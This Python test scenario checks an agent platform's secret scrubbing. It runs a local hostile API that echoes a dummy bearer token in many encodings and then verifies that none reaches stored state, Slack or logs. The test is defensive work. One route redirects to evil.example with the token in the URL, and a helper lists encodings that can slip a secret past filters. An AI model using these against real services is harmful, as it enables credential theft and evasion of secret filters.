"""A hostile HTTP API that echoes the credential Signoff sends it, in every form servers write one:
PHP's `\\/`, `\\u` escapes in either case or in part, percent-encoding, base64 of the token and of the
whole header, HTML references; as JSON values and keys, in HTML pages, in a redirect's Location, in
a body cut at its cap mid-token, on 401, 403, 500, 200 and 201, to reads and to approved writes.

No form of the token may reach the run's stored state, its executions, its events, any table, any
Slack message or the serve log, while every answer still reaches the run (scrubbed).
"""

from __future__ import annotations

import base64
import json
import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_plus

from sqlalchemy import MetaData, select

from scenarios.drive import Driver
from scenarios.outcome import Outcome, observed
from scenarios.toolset import append_effect
from scenarios.world import World
from signoff.tools.http.config import tool_name
from signoff.tools.registry import load_toolsets

API = "echo"
TOKEN_ENV = "ECHO_API_TOKEN"
TOKEN = "Zq9/secret/tok3n"
CAP = 2000
"""The API's `max_response_bytes`: `/big` puts the token across it."""
READ, NOTE, STRICT = tool_name(API, "read"), tool_name(API, "add_note"), tool_name(API, "strict_note")
PAGES = ("profile", "page", "denied", "broken", "expired", "moved", "big")
"""What the run reads, one hostile answer each (see `EchoingApi._answer`)."""
SCRIPT: list[dict[str, Any]] = [
    *({"tool": READ, "args": {"what": page}} for page in PAGES),
    {"tool": NOTE, "args": {"text": "Token rotated."}},
    {"tool": STRICT, "args": {"text": "Token rotated, strictly."}},
    {"final": "Read everything and wrote both notes."},
]


def forms(secret: str, header: str | None = None) -> dict[str, str]:
    """How a server could write `secret`, sent in a header whose whole value is `header` (None: not
    said, so not its base64 either)."""
    percent = quote(secret, safe="")
    of_header = {"base64-of-header": base64.b64encode(header.encode()).decode()} if header else {}
    return of_header | {
        "as-is": secret,
        "php-json": secret.replace("/", "\\/"),
        "unicode-lower": "".join(f"\\u{ord(c):04x}" for c in secret),
        "unicode-upper": "".join(f"\\u{ord(c):04X}" for c in secret),
        "unicode-in-part": "".join(f"\\u{ord(c):04X}" if i % 3 else c for i, c in enumerate(secret)).replace("/", "\\/"),
        "percent": percent,
        "percent-lower-hex": re.sub("%[0-9A-F]{2}", lambda m: m.group().lower(), percent),
        "percent-plus": quote_plus(secret),
        "base64": base64.b64encode(secret.encode()).decode(),
        "base64-unpadded": base64.b64encode(secret.encode()).decode().rstrip("="),
        "base64-urlsafe": base64.urlsafe_b64encode(secret.encode()).decode(),
        "html-decimal": "".join(f"&#{ord(c)};" for c in secret),
        "html-hex": "".join(f"&#x{ord(c):x};" for c in secret),
    }


def shown(text: str, secret_forms: dict[str, str]) -> list[str]:
    """The forms `text` shows, whole or by the middle half of one (the part that is the secret's own),
    as written or once JSON's doubled backslashes are undone."""
    views = (text, text.replace("\\\\", "\\"))
    return [name for name, form in secret_forms.items()
            if any(form in view or form[len(form) // 4: 3 * len(form) // 4] in view for view in views)]


class EchoingApi:
    """`with EchoingApi(effects) as api:` serves on `api.url`, echoing each request's bearer token."""

    def __init__(self, effects: Path) -> None:
        self.effects = effects
        self.echoed: list[str] = []
        """The path of each answer that echoed the token it was sent."""
        self._lock = threading.Lock()
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), _handler(self))
        self._server.daemon_threads = True
        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.02,), daemon=True,
                                        name="echoing-api")

    @property
    def url(self) -> str:
        host, port = self._server.server_address[:2]
        return f"http://{host!s}:{port}"

    def __enter__(self) -> EchoingApi:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()

    def _answer(self, method: str, path: str, header: str, key: str | None) -> tuple[int, dict[str, str], bytes]:
        token = header.removeprefix("Bearer ")
        echo = forms(token, header)
        every = " ".join(echo.values())
        with self._lock:
            self.echoed.append(path)
        php_error = ('{"error": "token ' + echo["php-json"] + ' is not valid here", "' + echo["unicode-upper"]
                     + '": "rejected", "seen": [' + ", ".join(json.dumps(f) for f in echo.values()) + "]}")
        match method, path:
            case "GET", "/profile":
                return 200, {"Content-Type": "application/json"}, php_error.encode()
            case "GET", "/page":
                return 200, {"Content-Type": "text/html"}, f"<html><p>{every}</p></html>".encode()
            case "GET", "/denied":
                return 403, {"Content-Type": "application/json"}, php_error.encode()
            case "GET", "/broken":
                return 500, {"Content-Type": "text/plain"}, f"stack trace: Authorization: {every}".encode()
            case "GET", "/expired":
                return 401, {"Content-Type": "application/problem+json"}, php_error.encode()
            case "GET", "/moved":
                location = f"https://ada:{echo['percent']}@evil.example/callback?token={echo['percent']}"
                return 302, {"Location": location, "Content-Type": "text/plain"}, every.encode()
            case "GET", "/big":
                lead = "x" * (CAP - len(echo["php-json"]) // 2)
                return 200, {"Content-Type": "text/plain"}, (lead + echo["php-json"] + "y" * 4 * CAP).encode()
            case "POST", "/notes":
                append_effect(self.effects, NOTE, {"text": "Token rotated."}, key or "", dedupe=True)
                return 201, {"Content-Type": "application/json"}, php_error.encode()
            case "POST", "/strict":
                return 401, {"Content-Type": "application/json"}, php_error.encode()
        return 404, {"Content-Type": "text/plain"}, b"no such route"


def _handler(api: EchoingApi) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - the stdlib's name
            pass

        def _serve(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            status, headers, body = api._answer(self.command, self.path.split("?")[0],
                                                self.headers.get("Authorization", ""),
                                                self.headers.get("Idempotency-Key"))
            self.send_response(status)
            for name, value in headers.items():
                self.send_header(name, value)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_GET = do_POST = _serve

    return Handler


def api_config(base_url: str) -> dict[str, Any]:
    """`SIGNOFF_HTTP_TOOLS` for the echoing API: a read of any page, and two notes (POSTs: approved)."""
    text = {"type": "object", "properties": {"text": {"type": "string"}}, "required": ["text"]}
    what = {"type": "object", "properties": {"what": {"type": "string"}}, "required": ["what"]}
    return {"apis": {API: {
        "base_url": base_url, "headers": {"Authorization": f"Bearer ${{{TOKEN_ENV}}}"}, "timeout": 5,
        "max_response_bytes": CAP, "tools": [
            {"name": "read", "method": "GET", "path": "/{what}", "description": "Read a page.", "args": what},
            {"name": "add_note", "method": "POST", "path": "/notes", "description": "Add a note.", "args": text},
            {"name": "strict_note", "method": "POST", "path": "/strict", "description": "Add a note, strictly.",
             "args": text},
        ]}}}


def run_echoed_credentials(kind: str = "sqlite", timeout: float = 40.0) -> Outcome:
    """One run reads seven hostile pages and writes two approved notes; the API echoes its token in
    every answer, and nothing Signoff keeps, posts or logs shows any form of it."""
    outcome = Outcome(f"hostile/echoed-credentials/{kind}", "hostile", runs=1)
    with observed(outcome, lambda: World(kind, SCRIPT, env={"SIGNOFF_MAX_STEPS": str(len(SCRIPT))})) as world, EchoingApi(world.effects) as api:
        config = world.dir / "apis.json"
        config.write_text(json.dumps(api_config(api.url)), encoding="utf-8")
        serve = world.start(SIGNOFF_TOOLS=f"http:{API}", SIGNOFF_HTTP_TOOLS=str(config), **{TOKEN_ENV: TOKEN})
        world.tools = list(load_toolsets(f"http:{API}", outbox=world.dir / "outbox", http_config=config,
                                         environ={TOKEN_ENV: TOKEN}).values())
        driver = Driver(world, pick=lambda: serve)
        run_id = driver.start("read the echo API and write two notes")
        outcome.expect(driver.settle([run_id], timeout), f"the run did not settle within {timeout:g}s")
        outcome.hostile += len(api.echoed)
        outcome.expect(len(api.echoed) == len(PAGES) + 2,
                       f"the API answered {api.echoed}, not each of the run's {len(PAGES) + 2} calls once")
        _expect_answers_scrubbed(outcome, world, run_id)
        _expect_nothing_shows_the_token(outcome, world)
    return outcome


def _expect_answers_scrubbed(outcome: Outcome, world: World, run_id: str) -> None:
    """Each call's answer reached the run, with the token blanked out, not dropped."""
    run = world.db.store.get_run(run_id)
    outcome.expect(run is not None and run.status == "done", f"{run_id} ended {run and run.status}, not done")
    entries = [e for e in (run.state.get("history", []) if run is not None else []) if e.get("role") == "tool"]
    told = [json.dumps(e.get("result") if e.get("error") is None else e["error"], ensure_ascii=False)
            for e in entries]
    outcome.expect(len(told) == len(PAGES) + 2 and all("***" in t for t in told if "redirect" not in t),
                   f"the run was told {len(told)} answers, not each one scrubbed: {[t[:120] for t in told]}")
    moved = next((t for t in told if "redirect" in t), "")
    outcome.expect("a redirect to evil.example, which is not followed" in moved,
                   f"the redirect's failure does not name its host alone: {moved[:200]}")
    big = next((e.get("result") or {} for e in entries if "truncated" in (e.get("result") or {})), {})
    body = str(big.get("body", ""))
    outcome.expect(body.endswith("***") and not any(body.endswith(TOKEN[:n]) for n in range(2, len(TOKEN))),
                   f"the body cut at its cap ends {body[-40:]!r}, not with the token blanked out whole")


def _expect_nothing_shows_the_token(outcome: Outcome, world: World) -> None:
    """No table, Slack message or log line shows any form of the token."""
    secret_forms = forms(TOKEN, f"Bearer {TOKEN}")
    metadata = MetaData()
    metadata.reflect(bind=world.db.engine)
    with world.db.engine.connect() as conn:
        for table in metadata.sorted_tables:
            rows = "\n".join(json.dumps(list(row), default=str) for row in conn.execute(select(table)))
            found = shown(rows, secret_forms)
            outcome.expect(not found, f"the {table.name} table shows the token as {found}")
    with world.slack._lock:
        posted = "\n".join(json.dumps(call.body, default=str) for call in world.slack.calls)
    outcome.expect(not shown(posted, secret_forms), f"Slack was sent the token as {shown(posted, secret_forms)}")
    logged = world.logs()
    outcome.expect(not shown(logged, secret_forms), f"the serve log shows the token as {shown(logged, secret_forms)}")
    outcome.notes.append(f"{len(secret_forms)} forms of the token echoed in every answer; none kept, posted or logged")
